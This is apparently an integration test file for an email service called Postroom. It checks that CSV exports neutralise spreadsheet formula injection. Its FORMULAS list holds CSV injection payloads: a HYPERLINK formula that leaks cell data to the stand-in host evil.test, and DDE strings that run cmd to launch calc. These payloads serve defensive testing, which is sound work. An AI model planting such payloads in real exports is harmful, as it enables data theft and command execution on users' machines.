"""Every CSV Postroom hands out (the campaign errors report and the suppression list, each
from the API and from the console) neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

import httpx

from postroom.csvcells import FORMULA_STARTS, neutralise_cell
from postroom.runtime import Runtime
from postroom.suppressions import store as suppression_store
from postroom.tenants.keys import parse_key
from postroom.tenants.service import caller_by_key_id
from tests.integration.test_campaign_flow import csv_bytes
from tests.support.api_client import ApiClient
from tests.support.live_server import LiveServer

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def parsed(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row


def console_session(server: LiveServer, key: str) -> httpx.Client:
    session = httpx.Client(base_url=server.url, timeout=30)
    assert session.post("/signin", data={"api_key": key}).status_code == 303
    return session


def test_the_errors_report_neutralises_hostile_cells(
    live_server: LiveServer, client: ApiClient
) -> None:
    template_id = client.upload_template("<p>Hi</p>", "Hi")
    # Invalid addresses land in the report as written; "=a@example.com" is a valid address,
    # so its second copy is reported as a duplicate.
    rows = [["email"], ["=a@example.com"], ["=A@example.com"]] + [[f] for f in FORMULAS]
    file_id = client.upload_file(csv_bytes(rows))
    campaign_id = client.create_campaign(template_id=template_id, file_id=file_id).json()[
        "transaction_id"
    ]
    client.wait(campaign_id)
    key = client.http.headers["Authorization"].removeprefix("Bearer ")
    console = console_session(live_server, key)
    for response in (
        client.http.get(f"/api/v1/campaigns/{campaign_id}/errors"),
        console.get(f"/campaigns/{campaign_id}/errors.csv"),
    ):
        assert response.status_code == 200, response.text
        report = parsed(response.text)
        assert report[0] == ["row", "email", "reason", "detail"]
        assert len(report) == 1 + 1 + len(FORMULAS)  # the duplicate and every formula
        assert_no_formula(report)
        emails = [row[1] for row in report[1:]]
        assert "'=A@example.com" in emails
        assert "'" + FORMULAS[0] in emails and "'-2+3" in emails
    console.close()


def test_the_suppression_export_neutralises_hostile_cells(
    runtime: Runtime, live_server: LiveServer, client: ApiClient
) -> None:
    for email, detail in [
        ("=cmd@example.com", FORMULAS[0]),
        ("-x@example.com", FORMULAS[1]),
        ("+y@example.com", FORMULAS[3]),
    ]:
        added = client.http.post("/api/v1/suppressions", json={"email": email, "detail": detail})
        assert added.status_code == 201, added.text
    # Bounce diagnostics come from remote servers, unfiltered: a tab or CR may lead them.
    key = client.http.headers["Authorization"].removeprefix("Bearer ")
    parsed_key = parse_key(key)
    assert parsed_key is not None
    with runtime.db.write() as conn:
        tenant_id = caller_by_key_id(conn, parsed_key[0]).tenant_id
        for i, detail in enumerate(FORMULAS[4:]):
            email = f"bounced{i}@example.com"
            suppression_store.add(
                conn, tenant_id, email, email, "bounce", runtime.clock.now(), detail
            )
    console = console_session(live_server, key)
    for response in (
        client.http.get("/api/v1/suppressions/export.csv"),
        console.get("/suppressions/export.csv"),
    ):
        assert response.status_code == 200, response.text
        exported = parsed(response.text)
        assert exported[0] == ["email", "reason", "detail", "created_at"]
        assert len(exported) == 1 + 5
        assert_no_formula(exported)
        cells = {cell for row in exported[1:] for cell in row[:3]}
        assert {"'=cmd@example.com", "'-x@example.com", "'+y@example.com"} <= cells
        assert {neutralise_cell(f) for f in (FORMULAS[0], FORMULAS[1], *FORMULAS[3:])} <= cells
    console.close()


def test_neutralise_cell() -> None:
    for formula in FORMULAS:
        assert neutralise_cell(formula) == "'" + formula
    for plain in ("ann@example.com", "invalid_email", "", "1+1", " =1", "'=1"):
        assert neutralise_cell(plain) == plain
